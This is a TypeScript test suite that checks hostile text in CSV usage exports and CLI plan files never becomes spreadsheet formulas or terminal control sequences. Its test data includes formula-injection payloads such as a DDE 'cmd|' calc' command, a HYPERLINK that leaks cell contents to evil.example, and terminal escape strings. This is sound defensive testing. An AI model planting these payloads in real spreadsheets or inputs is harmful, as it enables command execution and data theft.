/**
 * User text never becomes a formula (issue 6.3), on the two paths that start from a file:
 *
 * - a usage export (importUsageCsv -> dashboardFromImport -> the dashboard sheet): the file's text
 *   (resource and part names, descriptions, units, header names, dates that are not dates) never
 *   reaches the sheet at all: features are shown by the card's names, months by labels the program
 *   writes. A marker in every text of the file is found nowhere in the model;
 * - the command line's plan files (src/cli, run through its library entry `run`, not a child
 *   process): plan, budget, site, initiative, period and month names that look like formulas are
 *   written to the .xlsx as shared strings, never as formulas; with a hostile usage export beside
 *   the plan, the workbook holds none of the export's text. What the command prints is free of
 *   control characters (no terminal escape sequence from a plan or a file gets through).
 */
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fc } from "../properties/count";
import { hostileText, PAYLOADS } from "./hostile-text";
import { BUDGET_PRESETS, CARDS, dashboardFromImport, importUsageCsv, InputError } from "../../src/core";
import { run } from "../../src/cli/cli";
import { buildDashboard } from "../../src/sheets/dashboard";
import { cellsOf } from "../../src/sheets/model";
import { xmlSafe } from "../../src/xlsx/write-workbook";
import { formulaOf, readBack } from "../xlsx/read-back";

/** Marks every text of a usage export. */
const FILE_MARK = "«CSV»";
/** Marks every text of a plan file. */
const PLAN_MARK = "«PLAN»";

/** A CSV field, quoted when it must be. */
const field = (s: string): string => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s);

/** Text of the export with the marker inside (but the export's own keywords kept readable). */
const fileText = hostileText(30).map((t) => t + FILE_MARK);

/**
 * A usage export whose every free-text cell is hostile: AI token rows named by a generic resource
 * and a hostile part number and description, rows of hostile resources (skipped, but quoted in the
 * import's summary), a hostile extra column, hostile units and dates.
 */
const exportArbitrary = fc
  .record({
    extraHeader: fileText,
    rows: fc.array(
      fc.record({
        day: fc.integer({ min: 1, max: 31 }),
        resource: fc.oneof(fc.constantFrom("AI Experience Tokens", "Genesys Cloud AI Experience Tokens", "Agent Copilot", "Voice Bots"), fileText),
        part: fileText,
        quantity: fc.oneof(fc.integer({ min: 0, max: 50_000 }).map(String), fileText),
        unit: fc.oneof(fc.constantFrom("tokens", "Tokens", ""), fileText),
        date: fc.oneof({ weight: 5, arbitrary: fc.constant("") }, { weight: 1, arbitrary: fileText }),
        extra: fileText,
      }),
      { minLength: 1, maxLength: 25 },
    ),
  })
  .map(({ extraHeader, rows }) =>
    [
      ["Date", "Resource", "Part Number", "Quantity", "Unit of Measure", "Description", extraHeader].map(field).join(","),
      ...rows.map((r) => [r.date || `2026-03-${String(r.day).padStart(2, "0")}`, r.resource, r.part, r.quantity, r.unit, r.part, r.extra].map(field).join(",")),
    ].join("\r\n"),
  );

/** Every AI token row with its resource generic and its quantity plain, so some rows always count. */
const countedRows =
  "\r\n" +
  [
    "2026-03-02,AI Experience Tokens,=cmd|' /C calc'!A0«CSV»,1200,tokens,=HYPERLINK(\"http://evil.example\")«CSV»,«CSV»",
    "2026-03-09,AI Experience Tokens,@SUM(1+1)«CSV»,1300,tokens,-2+3«CSV»,«CSV»",
  ].join("\r\n");

describe("a usage export's text never reaches the dashboard sheet", () => {
  test("for hostile exports on both cards: no cell, formula, note, name or chart of the model holds the file's text", () => {
    fc.assert(
      fc.property(exportArbitrary, fc.nat(CARDS.length - 1), (csv, k) => {
        const card = CARDS[k];
        const imp = importUsageCsv(csv + countedRows, { card });
        if (imp instanceof InputError) {
          // Refused whole, so nothing of it reaches a sheet: only for text full of control characters (taken for binary).
          expect({ refused: imp.message, binaryLooking: /[\u0000-\u0008\u000e-\u001f\u007f\ufffd]/.test(csv) }).toMatchObject({ binaryLooking: true });
          return;
        }
        expect(imp.rowsUsed).toBeGreaterThanOrEqual(2);
        const d = dashboardFromImport(imp, 50_000, { budgets: { "2026-03": 20_000 } });
        if (d instanceof InputError) throw new Error(d.message);
        const { model } = buildDashboard(d);
        expect(JSON.stringify(model).includes(FILE_MARK)).toBe(false);
        // The period is the program's own label of the file's month.
        expect(d.period).toBe("March 2026");
        for (const { cell } of cellsOf(model)) if (cell.formula !== undefined) expect(cell.formula).not.toMatch(/cmd\||HYPERLINK|SUM\(1\+1\)/);
      }),
      { numRuns: 300 },
    );
  });
});

// ------------------------------------------------------------------------------------------------
// The command line

let work: string;
let n = 0;
beforeAll(() => {
  work = mkdtempSync(join(tmpdir(), "security-cli-"));
});
afterAll(() => rmSync(work, { recursive: true, force: true }));

/** Runs the command line in a fresh folder holding `files`; the exit code, what it printed and the folder. */
async function cli(args: readonly string[], files: Record<string, string>) {
  const dir = join(work, `case-${++n}`);
  mkdirSync(dir);
  for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, name), content);
  let stdout = "";
  let stderr = "";
  const code = await run(args, { cwd: dir, stdout: (t) => (stdout += t), stderr: (t) => (stderr += t), today: () => new Date("2026-03-15T12:00:00Z") });
  return { code, stdout, stderr, dir };
}

/** Control characters a terminal acts on (escape sequences, bell, carriage return) and bidirectional overrides. */
const TERMINAL_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;

interface PlanTexts {
  readonly name: string;
  readonly budget: string;
  readonly site: string;
  readonly initiative: string;
  readonly period: string;
  readonly month: string;
}

/** A plan file (docs/plan-format.md) carrying the texts in every field that takes text. */
function planFile(t: PlanTexts) {
  const mid = BUDGET_PRESETS[0].plan;
  return {
    version: 1,
    name: t.name,
    users: 200,
    volumes: { copilot: 200, virtualagent: 200, scoring: 500, messaging: 5000 },
    tokensPerUser: { copilot: 55 },
    budget: {
      name: t.budget,
      startMonth: 1,
      startYear: 2026,
      initiatives: [{ name: t.initiative, tokensPerMonth: 8000, goLive: 4 }],
      sites: [
        { name: t.site, volumes: { copilot: 120, virtualagent: 100 } },
        { name: "Second site", volumes: { scoring: 400 } },
      ],
      buffers: mid.buffers,
    },
    dashboard: {
      period: t.period,
      allocation: 50_000,
      daysInPeriod: 31,
      daysElapsed: 31,
      features: { copilot: 11_000, virtualagent: 8_000 },
      weekly: [4500, 4200, 5300, 5810],
      variance: [{ month: t.month, budgeted: 20_000, actual: 18_940 }],
    },
  };
}

/** Reads the workbook the command line wrote and checks every text of the plan is a string cell, never a formula. */
async function checkWorkbook(path: string, t: PlanTexts, options: { fileMark?: boolean } = {}) {
  const back = await readBack(readFileSync(path));
  // As an .xlsx carries them: characters XML cannot hold as U+FFFD, CR read back as LF.
  const texts = [...new Set(Object.values(t))].filter((x) => x.trim() !== "").map((x) => xmlSafe(x).replace(/\r\n?/g, "\n"));
  let found = 0;
  for (const ws of back.workbook.worksheets) {
    ws.eachRow({ includeEmpty: false }, (row) =>
      row.eachCell({ includeEmpty: false }, (cell) => {
        // ExcelJS shows a merged range's value in each of its cells: look at the cell that holds it.
        if (cell.isMerged && cell.master.address !== cell.address) return;
        const formula = formulaOf(cell);
        if (formula !== undefined) {
          expect({ at: `${ws.name}!${cell.address}`, formula, holdsPlanText: formula.includes(PLAN_MARK) }).toMatchObject({ holdsPlanText: false });
          return;
        }
        if (typeof cell.value === "string" && texts.some((x) => cell.value === x || (cell.value as string).startsWith(`${x}: `))) {
          found++;
          expect(back.raw(ws.name, cell.address)).toMatchObject({ type: "s" });
          expect(cell.numFmt).toBe("@");
        }
      }),
    );
  }
  // Plan name, budget name, the site's labels, the initiative, the period and the month.
  expect(found).toBeGreaterThanOrEqual(6);
  for (const [part, xml] of back.parts) {
    for (const f of xml.matchAll(/<(f|formula|formula1|formula2)>([\s\S]*?)<\/\1>/g))
      expect({ part, holdsPlanText: f[2].includes(PLAN_MARK) }).toEqual({ part, holdsPlanText: false });
    if (options.fileMark) expect({ part, holdsFileText: xml.includes("«CSV»") || xml.includes("&#xAB;CSV&#xBB;") }).toEqual({ part, holdsFileText: false });
  }
}

/** Plan texts: known payloads and generated ones, at most the plan format's 100 characters. */
const planText = fc
  .oneof(fc.constantFrom(...PAYLOADS.filter((p) => p.trim() !== "" && p.length <= 90)), hostileText(80))
  .map((t) => (t + PLAN_MARK).slice(-100));

describe("the command line: plan files", () => {
  test.each([
    ["=cmd|' /C calc'!A0"],
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")'],
    ["@SUM(1+1)*cmd|' /C calc'!A0"],
    ["\t=1+1"],
    ["\u001b]0;owned\u0007\u001b[2J=1+1"],
  ])(
    "every text of the plan %j is written as text, and nothing it holds reaches the terminal as a control character",
    async (payload) => {
      const t: PlanTexts = {
        name: payload + PLAN_MARK,
        budget: payload + PLAN_MARK,
        site: payload + PLAN_MARK,
        initiative: payload + PLAN_MARK,
        period: payload + PLAN_MARK,
        month: payload + PLAN_MARK,
      };
      const r = await cli(["--plan", "plan.json", "--sheets", "calculator,budget,dashboard", "--out", "out.xlsx"], {
        "plan.json": JSON.stringify(planFile(t)),
      });
      expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: "" });
      expect(TERMINAL_CONTROL.test(r.stdout)).toBe(false);
      await checkWorkbook(join(r.dir, "out.xlsx"), t);
    },
    60_000,
  );

  test("generated plan texts, one per field", async () => {
    await fc.assert(
      fc.asyncProperty(fc.record({ name: planText, budget: planText, site: planText, initiative: planText, period: planText, month: planText }), async (t) => {
        const r = await cli(["--plan", "plan.json", "--sheets", "calculator,budget,dashboard", "--out", "out.xlsx"], {
          "plan.json": JSON.stringify(planFile(t)),
        });
        expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: "" });
        expect(TERMINAL_CONTROL.test(r.stdout + r.stderr)).toBe(false);
        await checkWorkbook(join(r.dir, "out.xlsx"), t);
      }),
      { numRuns: 20 },
    );
  }, 180_000);

  test("a hostile usage export beside the plan: the workbook holds none of its text, and the import's report prints none of its control characters", async () => {
    await fc.assert(
      fc.asyncProperty(exportArbitrary, async (csv) => {
        const t: PlanTexts = {
          name: "=1+1" + PLAN_MARK,
          budget: "+1" + PLAN_MARK,
          site: "-1" + PLAN_MARK,
          initiative: "@A1" + PLAN_MARK,
          period: "=A1" + PLAN_MARK,
          month: "\t=2" + PLAN_MARK,
        };
        // --allow-skipped: hostile token rows are skipped (and listed); the workbook is still written to be checked.
        const r = await cli(
          ["--plan", "plan.json", "--usage", "usage.csv", "--allow-skipped", "--sheets", "calculator,budget,dashboard", "--out", "out.xlsx"],
          {
            "plan.json": JSON.stringify(planFile(t)),
            "usage.csv": csv + countedRows,
          },
        );
        expect({ code: r.code, stderr: r.stderr }).toMatchObject({ code: 0 });
        expect(TERMINAL_CONTROL.test(r.stdout + r.stderr)).toBe(false);
        const back = await readBack(readFileSync(join(r.dir, "out.xlsx")));
        for (const [part, xml] of back.parts) expect({ part, holdsFileText: xml.includes("«CSV»") }).toEqual({ part, holdsFileText: false });
        // The plan's own texts are still there, as text (the dashboard now comes from the export).
        await checkWorkbook(join(r.dir, "out.xlsx"), { ...t, period: t.name, month: t.name }, { fileMark: true });
      }),
      { numRuns: 12 },
    );
  }, 180_000);
});
